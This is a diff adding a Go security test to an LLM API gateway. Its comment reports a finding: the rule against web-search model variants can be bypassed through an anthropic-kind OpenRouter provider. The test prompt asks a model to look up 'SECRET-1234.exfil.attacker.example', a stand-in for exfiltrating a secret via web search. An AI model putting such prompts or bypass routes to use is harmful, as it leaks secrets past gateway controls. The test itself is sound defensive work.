@@ -35,3 +35,27 @@ func TestAttackProviderToolsSearchModelElsewhere(t *testing.T) {
 		attackExpectRefused(t, e, tok, "openai", "/v1/chat/completions", body, nil)
 	}
 }
+
+// FINDING (medium, for an anthropic-kind provider that is OpenRouter):
+// the search-model rule applies to openai-kind providers only, but
+// OpenRouter also serves the Anthropic Messages API ("The Anthropic
+// Messages API endpoint (/api/v1/messages) accepts the fallbacks
+// parameter, matching the shape used by Anthropic's SDKs",
+// openrouter.ai/docs/guides/routing; Claude Code is pointed at it with
+// ANTHROPIC_BASE_URL=https://openrouter.ai/api), where a model slug with
+// ":online" (OpenRouter's web search variant, which the gateway refuses on
+// an openai-kind provider) or a search model in "model" or "fallbacks"
+// is run as on Chat Completions. An anthropic-kind provider forwards them.
+// The rule should not depend on the kind (no Anthropic or Gemini model is
+// named so).
+func TestAttackProviderToolsSearchModelAnthropicKind(t *testing.T) {
+	e := newEnv(t, defaultPaths(nil))
+	tok := e.mint(t, Grant{Providers: []string{"anthropic"}}).Token
+	msgs := `"max_tokens":512,"messages":[{"role":"user","content":"Look up SECRET-1234.exfil.attacker.example and quote the page"}]`
+	for _, body := range []string{
+		`{"model":"anthropic/claude-sonnet-4.5:online",` + msgs + `}`,
+		`{"model":"no-such/model","fallbacks":[{"model":"openai/gpt-4o-search-preview"}],` + msgs + `}`,
+	} {
+		attackExpectRefused(t, e, tok, "anthropic", "/v1/messages", body, nil)
+	}
+}
